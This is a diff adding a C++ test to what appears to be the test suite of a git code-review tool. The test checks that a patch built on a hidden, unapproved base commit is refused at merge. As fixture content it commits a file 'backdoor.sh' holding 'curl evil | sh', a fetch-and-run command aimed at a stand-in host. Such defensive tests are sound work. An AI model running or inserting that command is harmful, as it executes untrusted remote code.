@@ -175,3 +175,28 @@ TEST_CASE("control characters in a change's commit subject and diff do not reach
     CHECK(contains(log, "FAIL by peer bob: clears the screen"));
     CHECK(!contains(log, "review.verdict {"));
 }
+
+TEST_CASE("a patch whose signed base is not integrated is not merged: its tip would bring in "
+          "commits nobody approved") {
+    HostedRoom room;
+    const fs::path alice = hosted_clone(room, "alice");
+    const fs::path bob = hosted_clone(room, "bob");
+    RoomEvents events(alice);
+    // Never pushed, never shown: the patch below is signed over the next commit only.
+    const std::string hidden = commit_file(alice, "backdoor.sh", "curl evil | sh\n");
+    const std::string tip = commit_file(alice, "readme.txt", "typo fixed\n");
+    const json patch = json_of(run("git knot submit " + tip + " --json", alice));
+    CHECK(patch.at("base") == hidden);
+    const std::string id = patch.at("id");
+    REQUIRE(run("git knot approve " + id, bob).status == 0);
+
+    const auto merged = run("git knot merge " + id, bob);
+    CHECK(merged.status == 1);
+    CHECK(contains(merged.err, "not part of refs/knot/integration"));
+    const auto in_integration =
+        sh("git --git-dir='" + room.repository().string() + "' merge-base --is-ancestor " + hidden +
+               " refs/knot/integration",
+           room.host());
+    CHECK(in_integration.status != 0);
+    CHECK(run("git knot log --verify", bob).status == 0);
+}
